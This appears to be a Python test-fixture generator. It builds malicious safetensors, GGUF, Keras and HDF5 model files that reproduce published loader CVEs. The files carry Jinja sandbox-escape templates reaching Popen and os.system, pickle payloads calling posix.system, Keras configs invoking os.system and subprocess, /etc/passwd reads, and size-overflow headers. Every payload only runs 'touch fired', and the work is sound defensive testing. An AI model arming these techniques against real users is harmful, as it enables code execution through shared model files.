"""Hostile files of weights: safetensors, GGUF, Keras archives, HDF5. Each is a name, a family and the bytes.

They follow published vulnerabilities of the libraries that read these formats (each named where it is made), and the ways in which two
readers can be made to see two things. Nothing in them runs by itself: what they name would only make an empty file called ``fired``.
"""

import base64
import io
import json
import marshal
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

File = tuple[str, str, bytes]
COMMAND = "touch fired"


def weights_files() -> Iterator[File]:
    """All of them."""
    yield from safetensors_files()
    yield from gguf_files()
    yield from keras_files()
    yield from hdf5_files()


# --- safetensors -------------------------------------------------------------------------------------------------------
def safetensors(header: object, data: bytes = b"", padding: bytes = b"") -> bytes:
    """A file with that header, as text or as what JSON makes of it."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    text += padding
    return len(text).to_bytes(8, "little") + text + data


def tensor(start: int, end: int, shape: object = None, kind: object = "F32") -> dict[str, object]:
    """A tensor's entry."""
    return {"dtype": kind, "shape": [(end - start) // 4] if shape is None else shape, "data_offsets": [start, end]}


def safetensors_files() -> Iterator[File]:
    """Headers that lie about the numbers, or that two readers read in two ways."""
    pickled = b"cposix\nsystem\n(S'touch fired'\ntR."
    for name, data in {
        "header-of-90-mb": (90 << 20).to_bytes(8, "little") + b"{" + b" " * 100,
        "header-beyond-end": (100).to_bytes(8, "little") + b"{}      ",
        "key-twice": safetensors(b'{"a":%s,"a":%s}' % ((json.dumps(tensor(0, 4)).encode(),) * 2), bytes(4)),
        "metadata-twice": safetensors(b'{"__metadata__":{"a":"1"},"__metadata__":{"a":"2"}}'),
        "overlap": safetensors({"a": tensor(0, 8), "b": tensor(4, 12)}, bytes(12)),
        "same-place": safetensors({"a": tensor(0, 8), "b": tensor(0, 8)}, bytes(8)),
        "hole": safetensors({"a": tensor(0, 4), "b": tensor(8, 12)}, bytes(12)),
        "hole-at-start": safetensors({"a": tensor(8, 12)}, pickled[:8] + bytes(4)),
        "appended-pickle": safetensors({"a": tensor(0, 4)}, bytes(4) + pickled),
        "appended-zip": safetensors({"a": tensor(0, 4)}, bytes(4) + zipped({"a": pickled})),
        "cut": safetensors({"a": tensor(0, 400)}, bytes(100)),
        "shape-overflow": safetensors({"a": tensor(0, 0, [1 << 33, 1 << 33])}),
        "shape-too-large": safetensors({"a": tensor(0, 4, [1 << 40])}, bytes(4)),
        "shape-negative": safetensors({"a": tensor(0, 4, [-1, -1])}, bytes(4)),
        "shape-of-fractions": safetensors({"a": tensor(0, 4, [1.0])}, bytes(4)),
        "shape-of-truths": safetensors({"a": tensor(0, 4, [True])}, bytes(4)),
        "ends-before-it-begins": safetensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [4, 0]}}, bytes(4)),
        "half-a-byte": safetensors({"a": tensor(0, 1, [1], "F4")}, bytes(1)),
        "unknown-type": safetensors({"a": tensor(0, 4, [1], "OBJECT")}, bytes(4)),
        "type-is-a-list": safetensors({"a": tensor(0, 4, [1], ["F32"])}, bytes(4)),
        "more-keys": safetensors({"a": {**tensor(0, 4), "module": "os"}}, bytes(4)),
        "metadata-of-objects": safetensors({"__metadata__": {"a": {"b": "c"}}}),
        "metadata-too-long": safetensors({"__metadata__": {"a": "x" * (5 << 20)}}),
        "after-the-header": safetensors({}, b"", b"  \0 cos"),
        "tabs-after-header": safetensors({}, b"", b"\t\n"),
        "name-of-controls": safetensors({"a\n\x1b[2J": tensor(0, 4)}, bytes(4)),
        "name-turned-around": safetensors({"a\u202eb": tensor(0, 4)}, bytes(4)),
        "no-number": safetensors(b'{"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,4]}}', bytes(4)),
        "utf-16": safetensors("{}".encode("utf-16-le")),
        "list": safetensors(b"{}[]"),
        "deep": safetensors(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    }.items():
        yield f"{name}.safetensors", "safetensors", data


# --- GGUF --------------------------------------------------------------------------------------------------------------
def text(value: str | bytes) -> bytes:
    """A text of GGUF: its length and its bytes."""
    data = value.encode() if isinstance(value, str) else value
    return struct.pack("<Q", len(data)) + data


def pair(key: str | bytes, kind: int, value: bytes) -> bytes:
    """A key and its value."""
    return text(key) + struct.pack("<I", kind) + value


def info(name: str | bytes = "w", shape: tuple[int, ...] = (8,), kind: int = 0, offset: int = 0) -> bytes:
    """A tensor's description."""
    return text(name) + struct.pack(f"<I{len(shape)}QIQ", len(shape), *shape, kind, offset)


ARCHITECTURE = pair("general.architecture", 8, text("llama"))


def gguf(
    pairs: list[bytes] | None = None,
    infos: list[bytes] | None = None,
    data: bytes = bytes(32),
    counts: tuple[int, int] | None = None,
    version: int = 3,
    align: int = 32,
) -> bytes:
    """A file of these parts; by default one sound tensor of eight numbers."""
    pairs = [ARCHITECTURE] if pairs is None else pairs
    infos = [info()] if infos is None else infos
    head = b"GGUF" + struct.pack("<IQQ", version, *(counts or (len(infos), len(pairs)))) + b"".join(pairs + infos)
    return head + bytes(-len(head) % align) + data


def template(words: str, key: str = "tokenizer.chat_template") -> bytes:
    """A file with a chat template."""
    return gguf([ARCHITECTURE, pair(key, 8, text(words))])


# CVE-2024-34359 (llama-cpp-python ran templates outside of Jinja's sandbox) and ways around a look for two underscores.
TEMPLATES = {
    "class-walk": "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['touch', 'fired']) }}{% endif %}{% endfor %}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('touch fired').read() }}",
    "subscript": "{{ messages['__class__']['__mro__'] }}",
    "filter": "{{ messages|attr('_' ~ '_class_' ~ '_') }}",
    "escaped": "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "frame": "{{ (messages|map('upper')).gi_frame.f_builtins.get('exec') }}",
    "format": "{{ '{0.a}'.format(messages) }}",
    "import": "{% import 'os' as os %}{{ os.system('touch fired') }}",
    "include": "{% include '/etc/passwd' %}",
    "own-function": "{% set ns = namespace(strip=messages) %}{{ ns.strip('touch fired') }}",
    "own-keys": "{% set run = {'get': messages} %}{{ run.get('touch fired') }}",
    "made-up-filter": "{{ messages|map('at' ~ 'tr', 'x')|list }}",
    "call": "{{ messages[0]['a']('touch fired') }}",
    "huge-number": "{{ 'x' * 999999999999 }}",
    "long": "{{ x }}" * 20_000,
}


def gguf_files() -> Iterator[File]:
    """Counts and places that a file makes up, and templates that are code."""
    for name, words in TEMPLATES.items():
        yield f"template-{name}.gguf", "template", template(words)
    many = struct.pack("<IQ", 8, 1) + text("{{ ().__class__ }}")
    for name, data in {
        "template-of-tools": template("{{ ().__class__ }}", "tokenizer.chat_template.tool_use"),
        "template-in-list": gguf([pair("tokenizer.chat_template", 9, many)]),
        # CVE-2024-21836 and -23605: counts that are multiplied into sizes; -23496: a text's; -21825: an array's; -21802: dimensions.
        "tensor-count": gguf(counts=((1 << 64) // 88 + 1, 1)),
        "pair-count": gguf(counts=(1, (1 << 64) // 48 + 1)),
        "text-length": gguf([text("a") + struct.pack("<IQ", 8, (1 << 64) - 1) + b"x"]),
        "key-length": gguf([struct.pack("<Q", (1 << 64) - 1) + b"x"]),
        "array-length": gguf([pair("a", 9, struct.pack("<IQ", 10, (1 << 61) + 1))]),
        "array-of-texts-length": gguf([pair("a", 9, struct.pack("<IQ", 8, 1 << 61))]),
        "array-in-array": gguf([pair("a", 9, struct.pack("<IQ", 9, 1) * 50 + struct.pack("<IQ", 0, 0))]),
        "dimensions": gguf(infos=[info(shape=(1,) * 5)]),
        "dimension-count": gguf(infos=[text("w") + struct.pack("<I", 0xFFFFFFFF) + bytes(64)]),
        "shape-overflow": gguf(infos=[info(shape=(1 << 32, 1 << 32))]),
        "shape-negative": gguf(infos=[info(shape=((1 << 64) - 8,))]),
        "beyond-end": gguf(infos=[info(offset=1 << 20)]),
        "offset-overflow": gguf(infos=[info(offset=(1 << 64) - 32)]),
        "not-aligned": gguf(infos=[info(shape=(7,), offset=4)]),
        "overlap": gguf(infos=[info("a"), info("b")], data=bytes(64)),
        "hole": gguf(infos=[info("a"), info("b", offset=96)], data=bytes(128)),
        "other-order": gguf(infos=[info("a", offset=32), info("b")], data=bytes(64)),
        "one-name-twice": gguf(infos=[info(), info(offset=32)], data=bytes(64)),
        "half-a-block": gguf(infos=[info(shape=(8,), kind=8)], data=bytes(34)),
        "removed-type": gguf(infos=[info(kind=4)]),
        "unknown-type": gguf(infos=[info(kind=99)]),
        "unknown-value": gguf([pair("a", 13, bytes(8))]),
        "neither-true-nor-false": gguf([pair("a", 7, b"\x02")]),
        "no-utf-8": gguf([pair("a", 8, text(b"\xff\xfe"))]),
        "key-twice": gguf([ARCHITECTURE, pair("general.architecture", 8, text("other"))]),
        "key-of-controls": gguf([pair("a\n\x1b[2J", 0, b"\0")]),
        "long-name": gguf(infos=[info("w" * 64)]),
        "alignment-0": gguf([pair("general.alignment", 4, struct.pack("<I", 0))]),
        "alignment-3": gguf([pair("general.alignment", 4, struct.pack("<I", 3))]),
        "alignment-huge": gguf([pair("general.alignment", 4, struct.pack("<I", 1 << 31))]),
        "alignment-of-another-type": gguf([pair("general.alignment", 10, struct.pack("<Q", 32))]),
        "appended": gguf(data=bytes(32) + b"cposix\nsystem\n(S'touch fired'\ntR."),
        "padding": gguf(infos=[info(shape=(4,))], data=bytes(16) + b"#!/bin/sh\n      "),
        "cut": gguf(data=bytes(16)),
        "cut-in-values": gguf()[:40],
        "version-1": gguf(version=1),
        "version-99": gguf(version=99),
    }.items():
        yield f"{name}.gguf", "gguf", data


# --- Keras -------------------------------------------------------------------------------------------------------------
def zipped(members: dict[str, bytes]) -> bytes:
    """A ZIP archive."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return file.getvalue()


def part(module: object, name: object, config: object = None, **more: object) -> dict[str, object]:
    """A part as Keras writes it."""
    config = {} if config is None else config
    return {"module": module, "class_name": name, "config": config, "registered_name": None, **more}


def sequential(*layers: object, **more: object) -> dict[str, object]:
    """A model of layers."""
    return part("keras", "Sequential", {"name": "m", "layers": list(layers)}, **more)


def function(module: str, name: str) -> dict[str, object]:
    """A function as Keras writes it."""
    return part(module, "function", name, registered_name=name)


def archive(config: object, weights: bytes | None = None, **more: bytes) -> bytes:
    """A ``.keras``."""
    metadata = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}).encode()
    held = config if isinstance(config, bytes) else json.dumps(config).encode()
    weights = hdf5(lambda _file: None) if weights is None else weights
    return zipped({"metadata.json": metadata, "config.json": held, "model.weights.h5": weights, **more})


def dense(**config: object) -> dict[str, object]:
    """A harmless layer."""
    return part("keras.layers", "Dense", {"units": 1, **config})


def lambda_of() -> dict[str, object]:
    """A function as bytecode, as Keras writes Lambda layers (CVE-2024-3660)."""
    code = marshal.dumps((lambda x: (Path("fired").touch(), x)[1]).__code__)
    held = {"code": base64.b64encode(code).decode(), "defaults": None, "closure": None}
    return {"class_name": "__lambda__", "config": {"value": held}}


LAYERS: dict[str, object] = {
    "CVE-2024-3660": part("keras.layers", "Lambda", {"function": lambda_of()}),
    "CVE-2025-1550": part("os", "function", "system", registered_name="system"),
    "CVE-2025-1550-operation": part("keras.src.ops.core", "Map", {"f": function("os", "system")}),
    "CVE-2025-1550-class": part("subprocess", "Popen", {"args": COMMAND, "shell": True}),
    "CVE-2025-8747": part(
        "keras.layers", "Lambda", {"function": function("keras.utils", "get_file"), "arguments": {"origin": "http://127.0.0.1"}}
    ),
    "CVE-2025-9906": function("keras.config", "enable_unsafe_deserialization"),
    "CVE-2025-12058": part("keras.layers", "StringLookup", {"vocabulary": "/etc/passwd"}),
    "CVE-2025-12058-integers": part("keras.layers", "IntegerLookup", {"vocabulary": "http://127.0.0.1/words"}),
    "CVE-2025-12058-text": part("keras.layers", "TextVectorization", {"vocabulary": "gs://words"}),
    "CVE-2025-12060": function("keras.utils", "get_file"),
    "CVE-2025-49655": part("keras.layers", "TorchModuleWrapper", {"module": {"class_name": "__bytes__", "config": {"value": "gAQu"}}}),
    "CVE-2026-12479": dense(name="../../../../tmp/fired"),
    "in-time-distributed": part("keras.layers", "TimeDistributed", {"layer": part("keras.layers", "Lambda", {"function": lambda_of()})}),
    "in-bidirectional": part("keras.layers", "Bidirectional", {"layer": part("mine", "RNN"), "backward_layer": None}),
    "in-model-in-model": sequential(sequential(part("keras.layers", "Lambda", {"function": lambda_of()}))),
    "as-activation": dense(activation=lambda_of()),
    "as-activation-of-builtins": dense(activation=function("builtins", "eval")),
    "as-activation-of-keras": dense(activation=function("keras.activations", "deserialize")),
    "as-regularizer": dense(kernel_regularizer=part("mine", "Regularizer")),
    "custom": part(None, "Mine", registered_name="Custom>Mine"),
    "built-in-under-another-name": part("keras.layers", "Dense", {"units": 1}, registered_name="Custom>Mine"),
    "library-of-keras": part("keras_hub.layers", "Mine"),
    "saved-model": part("keras.layers", "TFSMLayer", {"filepath": "/tmp/model"}),
    "jax": part("keras.layers", "JaxLayer", {"call_fn": lambda_of()}),
    "flax": part("keras.layers", "FlaxLayer", {"module": lambda_of()}),
    "type-of-tensorflow": {"class_name": "__typespec__", "spec_name": "system", "module": "os", "config": [COMMAND], "registered_name": None},
    "module-without-class": {"module": "os", "config": {}},
    "class-in-a-list": {**dense(), "class_name": ["Dense"]},
    "more-keys": {**dense(), "fn": "os.system"},
    "inside-of-keras": part("keras.src.utils.file_utils", "function", "get_file", registered_name="get_file"),
    "module-with-dots": part("keras.layers.", "Dense"),
    "name-with-dots": part("keras", "layers.Dense"),
    "code-in-value": {"class_name": "__numpy__", "config": {"value": [1], "dtype": "O", "more": 1}},
}  # fmt: skip


def keras_files() -> Iterator[File]:
    """Archives of Keras that name code, and such with members that they should not have."""
    for name, layer in LAYERS.items():
        yield f"{name}.keras", "keras", archive(sequential(dense(), layer))
    compiled = {"optimizer": "adam", "loss": part("keras.losses", "LossFunctionWrapper", {"fn": lambda_of()})}
    built = sequential(dense(), build_config={"input_shape": part("os", "system")})
    deep: object = dense()
    for _ in range(400):
        deep = {"a": deep}
    sound = archive(sequential(dense()))
    for name, data in {
        "loss": archive(sequential(dense(), compile_config=compiled)),
        "build": archive(built),
        "deep": archive(sequential(deep)),
        "no-model": archive({"layers": []}),
        "key-twice": archive(
            b'{"module":"keras","class_name":"Sequential","class_name":"Lambda","config":{},"registered_name":null}'
        ),
        "utf-16": archive(json.dumps(sequential(dense())).encode("utf-16")),
        "more-members": archive(sequential(dense()), **{"model.py": b"import os\n"}),
        "pickle-in-assets": archive(
            sequential(dense()), **{"assets/vocabulary.txt": b"cposix\nsystem\n(S'touch fired'\ntR."}
        ),
        "words-for-no-layer": archive(sequential(dense()), **{"assets/layers/string_lookup/vocabulary.txt": b"a\nb\n"}),
        "numpy-weights": zipped(
            {
                "metadata.json": b'{"keras_version": "3.8.0"}',
                "config.json": b"{}",
                "model.weights.npz": b"PK\x05\x06" + bytes(18),
            }
        ),
        "weights-of-text": archive(sequential(dense()), b"words\n"),
        "weights-of-pickle": archive(sequential(dense()), b"\x80\x04cposix\nsystem\n(S'touch fired'\ntR."),
        "weights-that-reach-out": archive(sequential(dense()), hdf5(_external_storage)),
        "metadata": zipped(
            {
                "metadata.json": b'{"keras_version": {"class_name": "x"}}',
                "config.json": json.dumps(sequential(dense())).encode(),
                "model.weights.h5": hdf5(lambda _file: None),
            }
        ),
        "after": sound + b"cposix\nsystem\n(S'touch fired'\ntR.",
    }.items():
        yield f"archive-{name}.keras", "keras", data


# --- HDF5 --------------------------------------------------------------------------------------------------------------
def hdf5(fill: object, **how: object) -> bytes:
    """A file that ``fill`` has filled."""
    import h5py

    sink = io.BytesIO()
    with h5py.File(sink, "w", **how) as file:
        fill(file)  # type: ignore[operator]
    return sink.getvalue()


def _external_storage(file: object) -> None:
    file.create_dataset("w", (4,), "u1", external=[("/etc/passwd", 0, 4)])  # type: ignore[attr-defined]


def _soft_link(file: object) -> None:
    import h5py

    file["w"] = h5py.SoftLink("/elsewhere")  # type: ignore[index]


def _external_link(file: object) -> None:
    import h5py

    file["w"] = h5py.ExternalLink("/etc/weights.h5", "/w")  # type: ignore[index]


def _virtual(file: object) -> None:
    import h5py

    layout = h5py.VirtualLayout((4,), "u1")
    layout[:] = h5py.VirtualSource("/etc/weights.h5", "w", (4,))
    file.create_virtual_dataset("w", layout)  # type: ignore[attr-defined]


def _circle(file: object) -> None:
    file.create_group("a")["back"] = file["/"]  # type: ignore[attr-defined, index]


def _filtered(file: object) -> None:
    file.create_dataset("w", (4,), "u1", chunks=(4,), compression=32000, allow_unknown_filter=True)  # type: ignore[attr-defined]


def _larger(file: object) -> None:
    file.create_dataset("w", (1 << 40,), "f8", chunks=(1 << 10,), compression="gzip")  # type: ignore[attr-defined]


def _never_written(file: object) -> None:
    file.create_dataset("w", (1 << 40,), "f8")  # type: ignore[attr-defined]


def _references(file: object) -> None:
    import h5py

    file.create_dataset("w", (1,), h5py.ref_dtype)  # type: ignore[attr-defined]


def _opaque(file: object) -> None:
    import numpy as np

    file["w"] = np.void(b"\x80\x04cposix\nsystem\n(S'touch fired'\ntR.")  # type: ignore[index]


def _objects(file: object) -> None:
    """As pandas keeps columns of objects: rows of bytes of any length."""
    import h5py
    import numpy as np

    kept = file.create_dataset("w", (1,), h5py.vlen_dtype(np.uint8))  # type: ignore[attr-defined]
    kept[0] = np.frombuffer(b"\x80\x04cposix\nsystem\n(S'touch fired'\ntR.", "u1")


def _named_type(file: object) -> None:
    import numpy as np

    file["kind"] = np.dtype("f4")  # type: ignore[index]


def _pytables(file: object) -> None:
    import numpy as np

    file.attrs["PYTABLES_FORMAT_VERSION"] = np.bytes_("2.1")  # type: ignore[attr-defined]


def _pickled_attribute(file: object) -> None:
    import numpy as np

    file.attrs["words"] = np.bytes_(b"cposix\nsystem\n(S'touch fired'\ntR.")  # type: ignore[attr-defined]


def _many_deep(file: object) -> None:
    for _ in range(80):
        file = file.create_group("g")  # type: ignore[attr-defined]


def _controls(file: object) -> None:
    file["a\x1b[2J"] = 1  # type: ignore[index]


def model_config(config: object, **more: object) -> bytes:
    """A model as Keras kept it before version 3."""

    def fill(file: object) -> None:
        file.attrs["model_config"] = config if isinstance(config, str | bytes) else json.dumps(config)  # type: ignore[attr-defined]
        for name, value in more.items():
            file.attrs[name] = json.dumps(value)  # type: ignore[attr-defined]

    return hdf5(fill)


def hdf5_files() -> Iterator[File]:
    """Files that reach outside of themselves (CVE-2026-1669), that are bombs (CVE-2026-0897), or that hold code (CVE-2025-9905)."""
    for fill in (
        _external_storage, _soft_link, _external_link, _virtual, _circle, _filtered, _larger, _never_written, _references, _opaque, _objects,
        _named_type, _pytables, _pickled_attribute, _many_deep, _controls,
    ):  # fmt: skip
        yield f"{fill.__name__[1:].replace('_', '-')}.h5", "hdf5", hdf5(fill)
    code = {"class_name": "Lambda", "config": {"function": ["gAQu", None, None], "function_type": "lambda"}}
    plain = hdf5(lambda file: file.create_dataset("w", data=[1.0, 2.0]))
    for name, data in {
        "CVE-2025-9905": model_config({"class_name": "Sequential", "config": {"layers": [code]}}),
        "custom": model_config(
            {"class_name": "Sequential", "config": {"layers": [{"class_name": "Mine", "config": {}}]}}
        ),
        "operation-of-tensorflow": model_config({"class_name": "TFOpLambda", "config": {"function": "io.write_file"}}),
        "loss": model_config({"class_name": "Sequential", "config": []}, training_config={"loss": code}),
        "config-of-bytes": model_config(b"\x80\x04cposix\nsystem\n."),
        "appended": plain + b"cposix\nsystem\n(S'touch fired'\ntR.",
        "appended-zip": plain + zipped({"a.txt": b"x"}),
        "user-block": hdf5(lambda file: file.create_dataset("w", data=[1.0]), userblock_size=512),
        "script-before": b"#!/bin/sh\ntouch fired\n".ljust(512, b"\0") + plain,
        "cut": plain[:-8],
        "signature-alone": b"\x89HDF\r\n\x1a\n",
    }.items():
        yield f"{name}.h5", "hdf5", data
